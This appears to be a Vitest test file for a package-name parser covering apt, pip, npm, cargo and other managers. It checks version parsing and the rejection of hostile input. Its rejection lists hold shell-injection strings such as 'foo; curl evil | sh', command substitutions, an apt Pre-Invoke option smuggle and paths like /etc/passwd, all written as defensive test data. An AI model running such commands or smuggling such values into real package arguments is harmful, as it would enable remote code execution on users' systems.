import { describe, expect, it } from "vitest";
import type { CommandName } from "../read/commands.ts";
import { readPackage, withVersion } from "./package-name.ts";

const managers: readonly CommandName[] = [
  "apt",
  "apk",
  "dnf",
  "pacman",
  "zypper",
  "pip",
  "uv",
  "conda",
  "npm",
  "gem",
  "cargo",
  "go",
];

describe("names that a shell or the package manager would interpret are rejected", () => {
  const hostile = [
    "foo; curl evil | sh",
    "foo && x",
    "$(x)",
    "`x`",
    "foo\nbar",
    "foo bar",
    "-o APT::Update::Pre-Invoke::=x",
    "--help",
    "-",
    "../x",
    "/etc/passwd",
    "./x",
    "file:///etc",
    "foo >/x",
    "foo|x",
    "'foo'",
    "",
    "fóo",
    "*",
  ];
  it.each(managers)("%s", (manager) => {
    expect(hostile.filter((text) => readPackage(manager, text))).toEqual([]);
  });

  it("apt: a trailing dash, which removes a package", () => {
    expect(readPackage("apt", "git-")).toBeUndefined();
  });
});

it.each<[CommandName, string, string, string | undefined]>([
  ["apt", "g++", "g++", undefined],
  ["apt", "libc6:arm64", "libc6:arm64", undefined],
  ["apt", "git=1:2.39.5-0+deb12u1", "git", "1:2.39.5-0+deb12u1"],
  ["apt", "git/bookworm-backports", "git", undefined],
  ["apk", "git=2.45.2-r0", "git", "2.45.2-r0"],
  ["apk", "py3-pip>=20", "py3-pip", undefined],
  ["dnf", "@development-tools", "@development-tools", undefined],
  ["pacman", "extra/git", "extra/git", undefined],
  ["zypper", "git=2.43.0-1.1", "git", "2.43.0-1.1"],
  ["conda", "conda-forge::numpy=1.26", "conda-forge::numpy", "1.26"],
  ["conda", "python>=3.9,<3.12", "python", undefined],
  ["npm", "@angular/cli@17.0.0", "@angular/cli", "17.0.0"],
  ["npm", "typescript@^5", "typescript", undefined],
  ["gem", "rake:13.2.1", "rake", "13.2.1"],
  ["cargo", "ripgrep@14.1.0", "ripgrep", "14.1.0"],
  ["go", "golang.org/x/tools/gopls@v0.16.1", "golang.org/x/tools/gopls", "v0.16.1"],
  ["pip", "Foo_Bar==1.0", "foo-bar", "1.0"],
  ["uv", "foo [a, b] >= 1 , < 2", "foo", undefined],
  ["pip", "foo==1.*", "foo", undefined],
  ["pip", "foo @ https://example.org/foo.whl", "foo", undefined],
  [
    "pip",
    `foo==1; python_version < "3.9" and sys_platform == 'linux'`,
    `foo; python_version < "3.9" and sys_platform == 'linux'`,
    "1",
  ],
  ["pip", "--index-url=https://example.org/simple", "--index-url=https://example.org/simple", undefined],
])("%s: parses %s", (manager, text, name, pin) => {
  expect(readPackage(manager, text)).toEqual({ name, pin });
});

it.each(["ros-humble-rqt*", "lib?oo", "gcc-*"])("apt: %s is a pattern", (text) => {
  expect(readPackage("apt", text)).toEqual({ name: text, pattern: true });
  expect(withVersion("apt", text, "1")).toBe(text);
});

it.each(["*", "-x*", "foo*=1", "foo*-", "$(x)*"])("apt: rejects the pattern %s", (text) => {
  expect(readPackage("apt", text)).toBeUndefined();
});

it.each([
  `foo; python_version < "3.9`,
  "foo; import os",
  "foo;",
  "foo; curl evil",
  "foo==",
  "foo===a b",
  "-r requirements.txt",
  "-e .",
  "--index-url",
  "--index-url -x",
  "--target=/etc",
])("pip: rejects %s", (text) => {
  expect(readPackage("pip", text)).toBeUndefined();
});

it.each<[CommandName, string, string]>([
  ["apt", "git", "git=1"],
  ["npm", "a@^2", "a@1"],
  ["gem", "a", "a:1"],
  ["dnf", "a", "a-1"],
  ["pip", `foo[x]>=2; python_version < "4"`, `foo[x]==1; python_version < "4"`],
  ["pacman", "a", "a"],
])("%s: adds a version to %s", (manager, text, bound) => {
  expect(withVersion(manager, text, "1")).toBe(bound);
});
